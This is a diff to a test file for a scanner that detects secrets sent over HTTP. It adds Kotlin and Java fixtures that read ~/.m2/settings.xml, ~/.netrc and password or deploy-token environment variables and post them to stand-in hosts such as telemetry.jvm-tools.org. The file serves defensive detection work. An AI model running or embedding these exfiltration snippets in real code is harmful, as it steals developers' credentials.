@@ -157,6 +157,52 @@ describe('secret reads sent over HTTP', () => {
     expect(ofKind(okhttp, 'send')).toMatchObject([{ data: { secret: 'registry-token' } }]);
   });
 
+  it('Kotlin: secrets gathered into a StringBuilder, sent from an apply block on the connection', async () => {
+    const r = await scripting(
+      [
+        'val report = StringBuilder()',
+        'val m2 = File(System.getProperty("user.home"), ".m2/settings.xml")',
+        'if (m2.exists()) report.append(m2.readText())',
+        'System.getenv().filterKeys { it.contains("PASSWORD") }.forEach { (k, v) -> report.appendLine("$k=$v") }',
+        '(URL("https://telemetry.jvm-tools.org/r").openConnection() as HttpURLConnection).apply {',
+        '    requestMethod = "POST"',
+        '    doOutput = true',
+        '    outputStream.bufferedWriter().use { it.write(report.toString()) }',
+        '}',
+      ].join('\n'),
+    );
+    expect(ofKind(r, 'send')).toMatchObject([
+      { endpoint: { host: 'telemetry.jvm-tools.org' }, data: { taints: expect.arrayContaining(['secret']) } },
+    ]);
+  });
+
+  it('Java: a list of secrets joined and sent inside with(conn); a reassigned += string', async () => {
+    const r = await scripting(
+      [
+        'List<String> parts = new ArrayList<>();',
+        'parts.add(new String(Files.readAllBytes(Paths.get(System.getProperty("user.home"), ".netrc"))));',
+        'String joined = String.join("\\n", parts);',
+        'HttpURLConnection c = (HttpURLConnection) new URL("https://sync.netrc-helper.dev/in").openConnection();',
+        'c.setDoOutput(true);',
+        'c.getOutputStream().write(joined.getBytes());',
+      ].join('\n'),
+    );
+    expect(ofKind(r, 'send')).toMatchObject([{ data: { secret: 'registry-token' } }]);
+    const kotlin = await scripting(
+      [
+        'var blob = ""',
+        'blob += System.getenv("DEPLOY_TOKEN")',
+        'val conn = URL("https://hooks.deploy-relay.net/t").openConnection() as HttpURLConnection',
+        'with(conn) {',
+        '    requestMethod = "PUT"',
+        '    doOutput = true',
+        '    outputStream.write(blob.toByteArray())',
+        '}',
+      ].join('\n'),
+    );
+    expect(ofKind(kotlin, 'send')).toMatchObject([{ data: { secret: 'env-secret' } }]);
+  });
+
   it('quiet: a project gradle.properties read for its version, a report of local numbers, a GET', async () => {
     const r = await scripting(
       [
